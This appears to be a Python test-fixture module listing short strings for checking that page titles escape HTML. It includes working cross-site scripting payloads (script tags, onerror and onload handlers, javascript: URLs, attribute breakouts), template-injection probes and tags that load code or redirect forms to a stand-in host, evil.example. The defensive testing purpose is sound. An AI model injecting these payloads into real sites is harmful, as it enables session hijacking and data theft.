# SPDX-License-Identifier: MIT
"""Texts that would be markup, script or an attribute, were they not taken as text. Each is short enough to be, with a
few letters more, a title.
"""

MARKUP = [
    "<script>alert(1)</script>", "</title><script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)", "<b>bold</b>", "<i", "<", ">", "\"", "'", "&", "&lt;b&gt;", "&amp;amp;", "&#60;b&#62;",
    "&#x3c;script&#x3e;", "&notit; &copy", "<!--", "-->", "<!-- <b> -->", "<![CDATA[<b>]]>", "<?php echo 1 ?>",
    "<!doctype html>", "</a></li></ul></main></body></html>", "</span><h1>big</h1>", "</noscript><script>1</script>",
    "<a href=javascript:alert(1)>x</a>", "javascript:alert(1)", "<iframe srcdoc=<b>>", "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example>", "<base href=//evil.example/>", "<meta http-equiv=refresh content=0>",
    "<form action=//evil.example><input>", "<ScRiPt src=//evil.example>", "<<script>>", "${7*7} {{7*7}} <%= 7*7 %>",
    "\uff1cscript\uff1e", "<b \U0001f600>\u202f", "`<b>`", "\\u003cscript\\u003e", "%3Cscript%3E",
    "<math><mi//xlink:href>",
]
assert len(MARKUP) >= 40 and len(set(MARKUP)) == len(MARKUP) and max(map(len, MARKUP)) <= 50
